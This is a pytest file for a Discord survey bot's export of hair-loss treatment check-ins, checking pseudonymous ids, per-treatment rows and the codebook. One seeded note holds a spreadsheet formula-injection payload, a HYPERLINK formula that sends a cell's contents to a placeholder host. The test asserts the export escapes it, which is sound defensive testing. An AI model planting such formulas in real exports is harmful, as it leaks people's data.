"""Exports gain a third file: every completed check-in in long format, one row per check-in
and treatment, under the survey export's pseudonymous ids, described in the codebook. A
real check-in answered through the double and exported by a moderator; seeded check-ins
in real SQLite files for the edge cases and the command line."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.app import AnagenBot
from bot.cli import main
from bot.results.service import ResultsService
from bot.storage import Database
from bot.survey.flow import Answer
from bot.survey.questionnaire import load_questionnaire
from tests.checkin_driver import enable_checkins, field_select, opt_in, store_checkin
from tests.double import DiscordDouble, Message, User
from tests.survey_driver import click_through, seed_response, start_survey, step_of

GUILD = 7
DAY = datetime(2026, 3, 2, 8, tzinfo=UTC)


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


async def answer_checkin(double: DiscordDouble, member: User, question: Message) -> Message:
    """Still on finasteride with two side effects, stopped ketoconazole (typed), started
    topical minoxidil last month; less shedding, itch 3, burning 1; the note skipped."""
    assert step_of(question) == "regimen/finasteride"
    question = (
        await double.select(member, question, field_select(question, "status"), ["still_using"])
    ).message
    question = (
        await double.select(
            member, question, field_select(question, "side_effects"), ["sexual", "mood"]
        )
    ).message
    sent = len(double.dms(member))
    await double.dm(member, "stopped, none")
    question = await double.wait_for_dm(member, sent + 1)
    question = (
        await double.select(member, question, field_select(question, ""), ["minoxidil_topical"])
    ).message
    question = (
        await double.select(member, question, field_select(question, "month"), ["last_month"])
    ).message
    question = (await double.click(member, question, "Less")).message
    sent = len(double.dms(member))
    await double.dm(member, "3")
    question = await double.wait_for_dm(member, sent + 1)
    question = (await double.click(member, question, "1")).message
    question = (await double.click(member, question, "Satisfied")).message
    assert step_of(question) == "note"
    return (await double.click(member, question, "Skip")).message


async def test_a_moderators_export_has_the_checkin_one_row_per_treatment(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    await enable_checkins(double)
    question = await start_survey(double, member)
    summary, _ = await click_through(double, member, question)  # finasteride, ketoconazole
    thanks = (await double.click(member, summary, "Done")).message
    await opt_in(double, member, thanks)
    sent = len(double.dms(member))
    await double.slash(member, "checkin now")
    summary = await answer_checkin(double, member, await double.wait_for_dm(member, sent + 1))
    assert "check-in is saved" in (await double.click(member, summary, "Done")).message.content

    today = datetime.now(UTC).date()
    days = {today.isoformat(), (today - timedelta(days=1)).isoformat()}  # past midnight

    moderator = double.add_member("mod", admin=True)
    reply = await double.slash(moderator, "survey-admin export", format="csv")
    message = await reply.wait_followup(timeout=60)
    assert message.ephemeral
    assert "every check-in" in message.text
    files = {a.filename: a.data for a in message.attachments}
    stem = f"anagen-checkins-{double.guild.id}-v1"
    assert set(files) == {
        f"anagen-survey-{double.guild.id}-v2.csv",
        f"anagen-survey-{double.guild.id}-v2.codebook.csv",
        f"{stem}.csv",
    }

    rows = read_csv(files[f"{stem}.csv"])
    by_treatment = {r["checkin_treatment"]: r for r in rows}
    # in the check-in questionnaire's order of treatments
    assert [r["checkin_treatment"] for r in rows] == [
        "finasteride",
        "minoxidil_topical",
        "ketoconazole",
    ]
    finasteride = by_treatment["finasteride"]
    assert (finasteride["checkin_current"], finasteride["checkin_started"]) == ("1", "0")
    assert finasteride["checkin_regimen.status"] == "still_using"
    effects = {
        key.rsplit(".", 1)[1]: value
        for key, value in finasteride.items()
        if key.startswith("checkin_regimen.side_effects.")
    }
    assert effects == {
        "none": "0",
        "sexual": "1",
        "mood": "1",
        "heart": "0",
        "skin_irritation": "0",
        "unwanted_hair": "0",
        "other": "0",
    }
    assert finasteride["checkin_started_when.month"] == ""
    ketoconazole = by_treatment["ketoconazole"]
    assert ketoconazole["checkin_regimen.status"] == "stopped"
    assert ketoconazole["checkin_regimen.side_effects.none"] == "1"
    minoxidil = by_treatment["minoxidil_topical"]
    assert (minoxidil["checkin_current"], minoxidil["checkin_started"]) == ("0", "1")
    assert minoxidil["checkin_started_when.month"] == "last_month"
    assert minoxidil["checkin_regimen.status"] == ""  # not asked about it
    for row in rows:  # the check-in's own answers, on each of its rows
        assert row["checkin_shedding"] == "less"
        assert (row["checkin_itch"], row["checkin_burning"]) == ("3", "1")
        assert row["checkin_satisfaction"] == "satisfied"
        assert row["checkin_note"] == "(skipped)"
        assert row["checkin_number"] == "1"
        assert row["checkin_period"] == ""  # started with /checkin now, not a reminder
        assert row["checkin_completed_at"] in days  # the UTC date, no time of day

    # the same pseudonymous id as the survey row: the files join
    [survey_row] = read_csv(files[f"anagen-survey-{double.guild.id}-v2.csv"])
    assert {r["respondent"] for r in rows} == {survey_row["respondent"]}
    assert str(member.id) not in files[f"{stem}.csv"].decode()

    # the codebook describes every column of both files, saying which
    book = read_csv(files[f"anagen-survey-{double.guild.id}-v2.codebook.csv"])
    for name, data in (("survey", files[f"anagen-survey-{double.guild.id}-v2.csv"]),
                       ("checkins", files[f"{stem}.csv"])):  # fmt: skip
        header = next(csv.reader(io.StringIO(data.decode())))
        assert [r["column"] for r in book if r["file"] == name] == header
    assert all(r["description"] for r in book)


async def seed_checkin(
    db: Database,
    guild_id: int,
    user_id: int,
    answers: dict[tuple[str, str], Answer],
    *,
    day: int = 0,
    period: str | None = None,
) -> None:
    when = DAY + timedelta(days=day)
    await store_checkin(db, guild_id, user_id, answers, at=when, period=period)


NOTHING_ON = {
    ("current", ""): Answer(choices=("none",)),
    ("started", ""): Answer(choices=("none",)),
    ("shedding", ""): Answer(choices=("same",)),
    ("itch", ""): Answer(number=0),
    ("burning", ""): Answer(number=0),
    ("satisfaction", ""): Answer(choices=("neutral",)),
    ("note", ""): Answer(text='=HYPERLINK("http://x/?"&A2,"see")'),
}


async def test_a_checkin_naming_no_treatment_is_one_row_and_text_is_safe(db: Database) -> None:
    service = ResultsService(db, load_questionnaire())
    await seed_response(db, GUILD, 42, {("sex", ""): Answer(choices=("male",))})
    await seed_checkin(db, GUILD, 42, NOTHING_ON, period="2026-03-02")
    on_one = {
        **NOTHING_ON,
        ("current", ""): Answer(choices=("prp",)),
        ("regimen.status", "prp"): Answer(choices=("changed_dose",)),
        ("regimen.side_effects", "prp"): Answer(choices=("none",)),
        ("note", ""): Answer(text="+1 better"),
    }
    await seed_checkin(db, GUILD, 42, on_one, day=28)
    await seed_checkin(db, GUILD + 1, 42, on_one)  # another server: not in this export
    await store_checkin(db, GUILD, 42, {("note", ""): Answer(text="x")}, at=DAY, completed=False)

    data, _, checkins = await service.export(GUILD, "csv")
    rows = read_csv(checkins.content)
    assert [(r["checkin_number"], r["checkin_treatment"]) for r in rows] == [
        ("1", ""),
        ("2", "prp"),
    ]
    first, second = rows
    assert first["checkin_period"] == "2026-03-02"
    # to the day: DAY at 08:00 UTC and 28 days later
    assert (first["checkin_completed_at"], second["checkin_completed_at"]) == (
        "2026-03-02",
        "2026-03-30",
    )
    assert first["checkin_current"] == ""  # no treatment on the row to say anything of
    assert first["checkin_note"].startswith("'=HYPERLINK")  # no formula runs in a spreadsheet
    assert second["checkin_note"] == "'+1 better"
    assert (second["checkin_current"], second["checkin_regimen.status"]) == ("1", "changed_dose")
    assert first["respondent"] == second["respondent"] == read_csv(data.content)[0]["respondent"]

    _, codebook, json_checkins = await service.export(GUILD, "json")
    parsed = json.loads(json_checkins.content)
    assert parsed["checkins"] == 2
    assert parsed["rows"][0]["checkin_note"] == NOTHING_ON[("note", "")].text  # raw in JSON
    assert json.loads(codebook.content)["checkins"] == {"questionnaire": "Check-in", "version": 1}
    columns = {
        c["column"] for c in json.loads(codebook.content)["columns"] if c["file"] == "checkins"
    }
    assert set(parsed["rows"][0]) == columns


async def test_a_server_without_checkins_exports_an_empty_third_file(db: Database) -> None:
    service = ResultsService(db, load_questionnaire())
    await seed_response(db, GUILD, 42, {("sex", ""): Answer(choices=("male",))})
    *_, checkins = await service.export(GUILD, "csv")
    assert read_csv(checkins.content) == []
    assert checkins.content.decode().startswith("respondent,checkin_number,")
    with pytest.raises(ValueError, match="csv or json"):
        await service.export(GUILD, "xlsx")


async def test_the_command_line_writes_the_checkins_beside_the_survey(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "anagen.db"
    async with await Database.open(database) as db:
        await seed_response(db, GUILD, 42, {("sex", ""): Answer(choices=("male",))})
        await seed_checkin(db, GUILD, 42, NOTHING_ON)
    monkeypatch.setenv("ANAGEN_DATABASE", str(database))
    monkeypatch.chdir(tmp_path)
    output = tmp_path / "out" / "server.csv"
    output.parent.mkdir()

    argv = ["export", "--guild", str(GUILD), "-o", str(output)]
    assert await asyncio.to_thread(main, argv) == 0

    written = sorted(p.name for p in output.parent.iterdir())
    assert written == ["server.checkins.csv", "server.codebook.csv", "server.csv"]
    [row] = read_csv((output.parent / "server.checkins.csv").read_bytes())
    assert row["respondent"] == read_csv(output.read_bytes())[0]["respondent"]
    assert "server.checkins.csv" in capsys.readouterr().out
